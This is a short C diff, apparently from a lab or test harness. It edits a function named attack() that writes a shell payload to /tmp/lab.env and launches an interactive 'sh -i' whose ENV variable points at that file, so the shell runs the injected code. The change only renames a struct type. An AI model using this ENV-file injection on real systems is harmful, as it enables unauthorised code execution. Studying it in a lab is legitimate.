@@ -10,7 +10,7 @@
 void attack(void)
 {
 	drop_text(FOREIGN_SHELL, "/tmp/lab.env");
-	judge_session(&(struct session){
+	judge_session(&(struct start){
 		.path = DASH, .argv = { "sh", "-i" }, .environment = { "ENV=/tmp/lab.env" }
 	});
 }
